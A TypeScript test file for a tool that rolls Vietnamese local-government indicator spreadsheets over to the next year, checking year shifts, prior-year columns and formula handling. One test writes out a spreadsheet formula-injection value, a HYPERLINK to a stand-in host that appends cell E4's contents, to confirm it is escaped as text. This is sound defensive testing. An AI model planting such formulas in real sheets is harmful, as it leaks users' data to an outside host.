import type { CellValue } from "../../src/core/model";
import { DEFAULT_SETTINGS } from "../../src/core/model";
import { rollover, shiftYears } from "../../src/core/rollover";
import { SEEDS } from "../../src/core/seeds";
import { readTable } from "../../src/core/table";

/** Seed 000 (TP. Bến Tre, 2020) laid out as an office's sheet: title, unit, blank, header, rows. */
function benTre2020(): CellValue[][] {
  const seed = SEEDS[0]!;
  const grid: CellValue[][] = [
    [seed.title],
    [`Đơn vị: ${seed.unitName}`],
    [],
    [
      "STT",
      "Chỉ tiêu",
      "ĐVT",
      "Kế hoạch năm 2020",
      "Ước thực hiện năm 2020",
      "Thực hiện năm 2019",
      "Ghi chú",
    ],
  ];
  const roman = ["I", "II", "III", "IV"];
  seed.groups.forEach((g, i) => {
    grid.push([roman[i] ?? "", g.name, null, null, null, null, null]);
    g.rows.forEach((r, j) => grid.push([j + 1, r.name, r.unit, r.plan, r.actual, r.prior, r.note || null]));
  });
  return grid;
}

describe("roll-over: next year's table from this one", () => {
  const grid = benTre2020();
  const before = JSON.stringify(grid);
  const read = readTable(grid, { convention: "vi" });
  const next = rollover(grid, read, DEFAULT_SETTINGS, { sheetName: "Năm 2020" });
  const again = readTable(next.grid, { convention: "vi" });

  test("the title and every header year move on; the source is untouched", () => {
    expect(next.grid[0]![0]).toBe("Kết quả thực hiện Nghị quyết năm 2021");
    expect(next.grid[3]!.slice(3, 6)).toEqual([
      "Kế hoạch năm 2021",
      "Ước thực hiện năm 2021",
      "Thực hiện năm 2020",
    ]);
    expect([next.fromYear, next.toYear]).toEqual([2020, 2021]);
    expect(again.table.year).toBe(2021);
    expect(next.plan.name).toBe("Năm 2021");
    // The title alone on its row is merged across the table, as the templates do (it is centred).
    expect(next.plan.merges).toEqual(["A1:L1"]);
    expect(JSON.stringify(grid)).toBe(before);
  });

  test("same groups and indicators; 2020's actual is now Cùng kỳ; plan and actual empty", () => {
    expect(again.table.groups.map((g) => g.name)).toEqual(read.table.groups.map((g) => g.name));
    const names = (t: typeof read) => t.table.groups.flatMap((g) => g.rows.map((r) => r.name));
    expect(names(again)).toEqual(names(read));
    const firms = again.table.groups[1]!.rows[2]!;
    expect(firms.name).toBe("Doanh nghiệp thành lập mới");
    expect([firms.prior, firms.actual, firms.target]).toEqual([176, null, null]);
    const revenue = again.table.groups[1]!.rows[0]!;
    expect(revenue.prior).toBe(37067);
    // Rows with an actual in 2020: 37.067, 6.794,12, 176, 894, 35, 562, 215, 53.
    expect(next.moved).toBe(8);
    expect(again.layout.columns).toMatchObject({ plan: 3, actual: 4, prior: 5 });
  });

  test("the computed columns come back as live formulas over the new cells", () => {
    const formulas = next.plan.blocks.flatMap((b) => b.contents.flat()).filter((v) => typeof v === "string");
    expect(formulas.some((f) => f.startsWith("=") && f.includes("F9"))).toBe(true);
  });

  test("a plan from the term's path fills the plan cell", () => {
    const plans = new Map([["Doanh nghiệp thành lập mới", 180]]);
    const withPlan = rollover(grid, read, DEFAULT_SETTINGS, { plans });
    const row = readTable(withPlan.grid, { convention: "vi" }).table.groups[1]!.rows[2]!;
    expect(row.target).toEqual({ kind: "value", value: 180 });
  });

  test("a 9-month table without a Cùng kỳ column gets one, headed with the period that ended", () => {
    const nine: CellValue[][] = [
      ["Kết quả 9 tháng năm 2020"],
      [],
      ["STT", "Chỉ tiêu", "ĐVT", "Kế hoạch", "Ước thực hiện 9 tháng"],
      [1, "Công trình hạ tầng nghiệm thu", "công trình", 42, 25],
    ];
    const r = rollover(nine, readTable(nine, { convention: "vi" }), DEFAULT_SETTINGS);
    expect(r.grid[0]![0]).toBe("Kết quả 9 tháng năm 2021");
    expect(r.grid[2]![5]).toBe("Thực hiện 9 tháng năm 2020");
    const row = readTable(r.grid, { convention: "vi" });
    expect(row.table.period).toBe("9_thang");
    expect(row.table.groups[0]!.rows[0]!.prior).toBe(25);
  });

  test("shiftYears moves every year in a text, and only years", () => {
    expect(shiftYears("Nhiệm kỳ 2020-2025, 123 456")).toBe("Nhiệm kỳ 2021-2026, 123 456");
  });
});

test("a person's texts that start like formulas are written as texts, read back as typed", () => {
  const grid: CellValue[][] = [
    ["Kết quả năm 2021"],
    ["'Đơn vị: phường 7"],
    ["STT", "Chỉ tiêu", "ĐVT", "Kế hoạch", "Thực hiện", "Cùng kỳ", "Ghi chú"],
    [1, '=HYPERLINK("http://x.example/?x="&E4,"Bấm")', "doanh nghiệp", 150, 176, 160, "+84 so với năm trước"],
    [2, "- Trong đó: doanh nghiệp nữ làm chủ", "doanh nghiệp", 20, 25, 18, "'ghi chú"],
  ];
  const r = rollover(grid, readTable(grid, { convention: "vi" }), DEFAULT_SETTINGS);
  const contents = r.plan.blocks[0]!.contents;
  expect(contents[3]!.slice(1, 3)).toEqual(['\'=HYPERLINK("http://x.example/?x="&E4,"Bấm")', "doanh nghiệp"]);
  expect([contents[1]![0], contents[4]![1]]).toEqual([
    "''Đơn vị: phường 7",
    "'- Trong đó: doanh nghiệp nữ làm chủ",
  ]);
  // The grid read back is the table as typed, no apostrophes added.
  const names = readTable(r.grid, { convention: "vi" }).table.groups.flatMap((g) =>
    g.rows.map((x) => x.name),
  );
  expect(names).toEqual([
    '=HYPERLINK("http://x.example/?x="&E4,"Bấm")',
    "- Trong đó: doanh nghiệp nữ làm chủ",
  ]);
});

test("the office's own So sánh (%) figures are this year's: cleared with the actual, the header kept", () => {
  const grid: CellValue[][] = [
    ["Kết quả năm 2021"],
    ["STT", "Chỉ tiêu", "ĐVT", "Kế hoạch", "Thực hiện", "Cùng kỳ", "% KH", "% CK"],
    [1, "Doanh nghiệp thành lập mới", "doanh nghiệp", 150, 176, 160, 117.33, 110],
  ];
  const read = readTable(grid, { convention: "vi", isFormula: () => false });
  expect(read.layout.reported).toEqual({ pctPlan: 6, pctPrior: 7 });
  const r = rollover(grid, read, DEFAULT_SETTINGS);
  expect(r.grid[1]!.slice(6, 8)).toEqual(["% KH", "% CK"]);
  expect(r.grid[2]!.slice(4, 8)).toEqual([null, 176, null, null]);
});
